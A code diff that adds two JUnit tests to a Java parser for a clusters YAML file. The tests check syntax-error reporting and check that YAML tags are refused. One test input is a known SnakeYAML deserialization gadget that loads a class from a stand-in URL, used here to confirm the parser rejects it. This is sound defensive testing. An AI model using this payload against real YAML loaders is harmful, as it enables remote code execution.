@@ -78,6 +78,36 @@ class ClustersYamlTest {
     assertThat(e.getMessage()).startsWith(FILE + ":").contains("not valid YAML");
   }
 
+  /** Issue 34: both read "cluster 'alpha' has no settings". */
+  @Test
+  void anUnclosedBracketAfterANameIsASyntaxErrorWithItsLineAndColumn() {
+    ClustersFileException e = failure("clusters:\n  alpha: [unclosed\n");
+
+    assertThat(e.line()).isEqualTo(2);
+    assertThat(e.getMessage())
+        .startsWith(FILE + ":2: not valid YAML")
+        .contains("flow sequence")
+        .contains("(column 10)")
+        .doesNotContain("has no settings");
+  }
+
+  @Test
+  void aYamlTagIsRefusedAsATagAnywhereInTheFile() {
+    ClustersFileException global =
+        failure(
+            "clusters:\n  alpha: !!javax.script.ScriptEngineManager"
+                + " [!!java.net.URLClassLoader [[!!java.net.URL [\"http://x/\"]]]]\n");
+    ClustersFileException local =
+        failure("clusters:\n  lxp:\n    scheduler: mock\n    transport: !custom local\n");
+
+    assertThat(global.getMessage())
+        .startsWith(FILE + ":2: a YAML tag '!!javax.script.ScriptEngineManager' (column 10)")
+        .contains("builds nothing from a tag")
+        .contains("remove the tag")
+        .doesNotContain("has no settings");
+    assertThat(local.getMessage()).startsWith(FILE + ":4: a YAML tag '!custom'");
+  }
+
   @Test
   void unknownKeyIsReportedOnItsLineWithTheKeysAllowed() {
     ClustersFileException e =
